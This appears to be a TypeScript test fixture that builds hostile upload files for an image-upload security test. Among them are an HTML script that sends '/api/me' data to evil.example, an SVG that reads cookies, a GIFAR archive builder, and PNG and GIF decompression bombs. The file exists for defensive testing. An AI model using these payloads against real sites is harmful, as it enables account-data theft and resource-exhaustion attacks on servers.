import { createDeflate, crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/*
 * Files made to attack an upload: for images/hostile-uploads.test.ts. Each is built here from
 * its bytes, so the test shows what it is, not just a name.
 */

/** What a payload appended to a picture carries: the test looks for it in anything stored. */
export const PAYLOAD_MARK = 'FRAMEHIRE-PAYLOAD';

/** An HTML page with a script: what a browser would run if a stored picture were sniffed as HTML. */
export const htmlPayload = Buffer.from(
  `<html><body><script>/*${PAYLOAD_MARK}*/fetch('/api/me').then(r=>r.text()).then(t=>new Image().src='https://evil.example/?'+t)</script></body></html>\n`,
);

/** An SVG whose script runs when the file is opened from the shop's origin. */
export const svgWithScript = Buffer.from(
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)">` +
    `<rect width="64" height="64" fill="red"/><script>/*${PAYLOAD_MARK}*/alert(document.cookie)</script></svg>`,
);

/** A minimal ZIP archive (one stored file): appended to a GIF it makes a GIFAR, a picture and a Java archive at once. */
export function zipArchive(name = 'META-INF/MANIFEST.MF', content = `Main-Class: ${PAYLOAD_MARK}\n`): Buffer {
  const file = Buffer.from(name);
  const data = Buffer.from(content);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(file.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(10, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(file.length, 28);
  const centralOffset = local.length + file.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + file.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, file, data, central, file, end]);
}

/** A real picture of `format`, 64×48, made by sharp. */
export function picture(format: 'png' | 'jpeg' | 'gif' | 'webp'): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#336699' } })
    .toFormat(format)
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

function pngHeader(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr)]);
}

/**
 * A decompression bomb: a complete, valid greyscale PNG of `side`×`side` black pixels whose
 * every row is really there, compressed about a thousand to one (20000² is 400 MB decoded,
 * some 400 kB sent). Deflated row by row, so building it never holds the picture either.
 */
export async function pngBomb(side: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const row = Buffer.alloc(side + 1); // filter byte 0, then the row's pixels
  for (let y = 0; y < side; y += 1) {
    if (!deflate.write(row)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat([
    pngHeader(side, side),
    pngChunk('IDAT', Buffer.concat(chunks)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A PNG that claims `width`×`height` but carries a few bytes of picture: its header lies. */
export function pngClaiming(width: number, height: number): Buffer {
  return Buffer.concat([
    pngHeader(width, height),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF whose screen is 65535×65535 (4.3 billion pixels) around a one-pixel image. */
export function gifClaimingHugeScreen(): Buffer {
  const screen = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0x00, 0x00]); // 65535×65535, a 2-colour table
  const palette = Buffer.from([0, 0, 0, 255, 255, 255]);
  const image = Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0x00]); // an image as large as the screen
  const data = Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00]); // LZW: a few pixels, then the end
  return Buffer.concat([Buffer.from('GIF89a', 'latin1'), screen, palette, image, data, Buffer.from([0x3b])]);
}
